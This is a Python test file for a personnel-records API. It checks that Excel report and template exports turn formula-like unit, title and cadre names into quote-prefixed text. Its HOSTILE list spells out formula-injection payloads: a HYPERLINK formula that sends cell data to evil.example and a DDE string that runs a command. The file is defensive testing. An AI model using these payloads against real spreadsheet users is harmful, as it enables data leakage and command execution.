"""Formula injection (issue 13): a unit or cadre whose name begins like a formula is written
into every workbook as text, quote-prefixed, never as a live `<f>` formula."""

from __future__ import annotations

import io
import re
import zipfile

from fastapi.testclient import TestClient

from api.app import create_app
from infra.settings import Settings

ADMIN = {"Authorization": "Bearer formula-admin"}
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)"]


def _sheets(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return {n: z.read(n).decode() for n in z.namelist()
                if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml"}


def _assert_text_only(content: bytes) -> None:
    from openpyxl import load_workbook

    for name, xml in _sheets(content).items():
        assert "<f>" not in xml and "<f " not in xml, f"a live formula in {name}"
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and re.match(r"[=+\-@]", cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)


def test_report_workbooks_write_formula_like_names_as_text(tmp_path: object) -> None:
    settings = Settings(database_url=f"sqlite:///{tmp_path}/hoso.sqlite3",
                        admin_token="formula-admin")
    with TestClient(create_app(settings)) as client:
        root = client.post("/api/v1/units", headers=ADMIN, json={
            "code": HOSTILE[0], "name": HOSTILE[1], "kind": "quan_uy",
            "established_on": "2000-01-01"}).json()["id"]
        child = client.post("/api/v1/units", headers=ADMIN, json={
            "code": "@X", "name": HOSTILE[2], "kind": "phong", "established_on": "2000-01-01",
            "parent_id": root}).json()["id"]
        client.post("/api/v1/titles", headers=ADMIN, json={
            "code": "tp", "name": HOSTILE[3], "is_head": True, "management_tier": "quan_uy"})
        cadre = client.post("/api/v1/cadres", headers=ADMIN, json={
            "full_name": "=Nguyễn Văn A", "gender": "nam", "born_on": "1980-01-01"}).json()["id"]
        assert client.post(f"/api/v1/cadres/{cadre}/appointments", headers=ADMIN, json={
            "kind": "bo_nhiem", "unit_id": child, "title_code": "tp",
            "effective_on": "2021-01-01", "decision": {
                "number": "=1+1", "signed_on": "2021-01-01", "issuer": "+Quận ủy",
                "signer": "-A"}}).status_code == 201
        for path, query in (("cadre-quality", {"as_of": "2022-06-30"}),
                            ("actions", {"from": "2021-01-01", "to": "2021-12-31"}),
                            ("summary", {"from": "2021-01-01", "to": "2021-12-31"})):
            answer = client.get(f"/api/v1/reports/{path}", headers=ADMIN,
                                params={**query, "format": "xlsx"})
            assert answer.status_code == 200, answer.text
            _assert_text_only(answer.content)
        # The hostile code itself is in the BM01 sheet, as text.
        bm01 = client.get("/api/v1/reports/cadre-quality", headers=ADMIN,
                          params={"as_of": "2022-06-30", "format": "xlsx"}).content
        shown = "".join(_sheets(bm01).values())
        assert "-2+3" in shown and "@X" in shown, shown[:2000]
        template = client.get("/api/v1/imports/template", headers=ADMIN)
        assert template.status_code == 200
        _assert_text_only(template.content)
